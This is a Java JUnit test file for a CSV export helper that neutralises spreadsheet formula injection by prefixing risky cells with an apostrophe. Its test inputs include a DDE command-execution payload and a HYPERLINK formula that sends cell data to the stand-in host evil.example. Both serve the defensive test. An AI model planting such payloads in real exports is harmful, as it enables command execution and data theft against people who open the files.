package org.redress.app.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
            })
    void formulaStartsGetAnApostrophe(String hostile) {
        assertThat(SpreadsheetCell.text(hostile)).isEqualTo("'" + hostile);
        assertThat(SpreadsheetCell.of(hostile)).isEqualTo("'" + hostile);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Arrested leaving his office",
                "2017-03-17",
                "2017-03-17T07:30",
                "~2017-04-10",
                "12-B",
                "A+B",
                "1 + 1 = 2",
                " =1",
                "'quoted",
                "ICE-2018-000123"
            })
    void ordinaryTextStaysAsItIs(String text) {
        assertThat(SpreadsheetCell.text(text)).isEqualTo(text);
    }

    @Test
    void numbersStayNumbersAndNullIsEmpty() {
        assertThat(SpreadsheetCell.of(new BigDecimal("-12.50"))).isEqualTo(new BigDecimal("-12.50"));
        assertThat(SpreadsheetCell.of(-3L)).isEqualTo(-3L);
        assertThat(SpreadsheetCell.of(new BigDecimal("2.5E+3")).toString()).isEqualTo("2500");
        assertThat(SpreadsheetCell.of(null)).isEqualTo("");
        assertThat(SpreadsheetCell.text(null)).isEqualTo("");
        assertThat(SpreadsheetCell.of(true)).isEqualTo("true");
    }

    @Test
    void theCsvQuotesEveryTextCellAndNoNumber() throws IOException {
        String csv = SpreadsheetCsv.write(
                List.of("id", "fact", "fees", "date"),
                List.of(
                        Arrays.asList(1L, "=1+1", new BigDecimal("-12.50"), "2024-03-01"),
                        Arrays.asList(2L, "Leaked; =HYPERLINK(\"x\")\tand \"more\"", null, null)));
        assertThat(csv)
                .isEqualTo("\"id\",\"fact\",\"fees\",\"date\"\r\n"
                        + "1,\"'=1+1\",-12.50,\"2024-03-01\"\r\n"
                        + "2,\"Leaked; =HYPERLINK(\"\"x\"\")\tand \"\"more\"\"\",\"\",\"\"\r\n");
        try (CSVParser p = CSVParser.parse(
                csv,
                CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            List<CSVRecord> rows = p.getRecords();
            assertThat(rows.get(0).get("fact")).isEqualTo("'=1+1");
            assertThat(rows.get(0).get("fees")).isEqualTo("-12.50");
            assertThat(rows.get(1).get("fact")).isEqualTo("Leaked; =HYPERLINK(\"x\")\tand \"more\"");
        }
    }
}
